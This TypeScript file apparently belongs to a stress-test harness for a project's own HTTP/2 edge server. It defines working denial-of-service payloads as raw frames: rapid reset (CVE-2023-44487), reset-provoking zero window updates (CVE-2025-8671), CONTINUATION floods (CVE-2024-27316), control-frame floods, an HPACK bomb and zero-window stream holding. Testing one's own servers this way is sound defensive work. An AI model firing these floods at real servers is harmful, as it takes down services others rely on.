import { FLAG, frame, get, number32, section, setting, TYPE } from '../../edge/http2-frames.ts'
import { HOST } from '../deployment.ts'

/** What somebody does who means harm, as often as they can. */
export interface Attack {
  name: string
  /** What is counted. */
  unit: 'streams' | 'frames'
  /** After so many of all connections together it is over. */
  unitsMax: number
  /** For so long it goes on until there were as many; as long as all unless said. */
  seconds?: number
  /** Lanes that attack side by side; a connection that was ended is followed by another. */
  lanes: number
  /** Settings that the connection begins with; none unless said. */
  settings?: Buffer
  begins?: Buffer
  /** What is sent again and again. @param at counts from 0 on each connection */
  repeats(at: number): Buffer
  /** Sends so many on each connection, and then nothing more: it waits. */
  holdsAfter?: number
}

const REQUEST = [':method', 'GET', ':scheme', 'https', ':authority', HOST, ':path']
const UPLOAD = [':method', 'POST', ':scheme', 'https', ':authority', HOST, ':path', '/upload']

const streamOf = (at: number) => 1 + 2 * at
const reset = (stream: number) => frame(TYPE.reset, 0, stream, number32(8))
const endless = frame(TYPE.headers, 0, 1, section([...REQUEST, '/kept/1']))
const upload = frame(TYPE.headers, FLAG.endHeaders, 1, section(UPLOAD))
const same = (bytes: Buffer) => () => bytes

const MILLION = 1_000_000
const streams = { unit: 'streams', unitsMax: MILLION, lanes: 4 } as const
const frames = { unit: 'frames', unitsMax: 10 * MILLION, lanes: 4 } as const

/** All of them, the best known first. */
export const ATTACKS: readonly Attack[] = [
  {
    ...streams,
    name: 'rapid reset of hits (CVE-2023-44487)',
    seconds: 60,
    repeats: (at) => Buffer.concat([get(streamOf(at), '/kept/1'), reset(streamOf(at))]),
  },
  {
    ...streams,
    name: 'rapid reset of misses',
    repeats: (at) => Buffer.concat([get(streamOf(at), `/new/${at}`), reset(streamOf(at))]),
  },
  {
    ...streams,
    name: 'resets that we are made to send (CVE-2025-8671)',
    // An increment of 0 is an error of the stream (RFC 9113 §6.9).
    repeats: (at) =>
      Buffer.concat([get(streamOf(at), `/new/${at}`), frame(TYPE.window, 0, streamOf(at), number32(0))]),
  },
  {
    ...frames,
    name: 'CONTINUATION (CVE-2024-27316)',
    begins: endless,
    repeats: same(frame(TYPE.continuation, 0, 1, section(['x', 'y'.repeat(100)]))),
  },
  {
    ...frames,
    name: 'CONTINUATION without bytes',
    begins: endless,
    repeats: same(frame(TYPE.continuation, 0, 1)),
  },
  { ...frames, name: 'SETTINGS', repeats: same(frame(TYPE.settings, 0, 0, setting(3, 100))) },
  { ...frames, name: 'PING', repeats: same(frame(TYPE.ping, 0, 0, Buffer.alloc(8))) },
  { ...frames, name: 'WINDOW_UPDATE of 1', repeats: same(frame(TYPE.window, 0, 0, number32(1))) },
  { ...frames, name: 'DATA without bytes', begins: upload, repeats: same(frame(TYPE.data, 0, 1)) },
  {
    ...frames,
    name: 'DATA of one byte',
    begins: upload,
    repeats: same(frame(TYPE.data, 0, 1, Buffer.alloc(1))),
  },
  { ...streams, name: 'HPACK bomb', repeats: bomb },
  {
    ...streams,
    name: '10,000 streams with windows of 0',
    unitsMax: 10_000,
    lanes: 100,
    settings: setting(4, 0),
    repeats: (at) => get(streamOf(at), '/large'),
    holdsAfter: 100,
  },
  {
    ...streams,
    name: '10,000 streams, the connection’s window left shut',
    unitsMax: 10_000,
    lanes: 100,
    settings: setting(4, 2 ** 31 - 1),
    repeats: (at) => get(streamOf(at), '/large'),
    holdsAfter: 100,
  },
]

/** One entry of 3,900 bytes in the dynamic table, then 10,000 references to it a head (RFC 7541 §7.3). */
function bomb(at: number): Buffer {
  const request = section([...REQUEST, '/kept/1'])
  const entry = section(['x', 'a'.repeat(3_900)])
  entry.writeUInt8(0x40, 0)
  const references = Buffer.alloc(10_000, 0x80 | 62)
  const block = Buffer.concat(at === 0 ? [request, entry, references] : [request, references])
  return frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, streamOf(at), block)
}
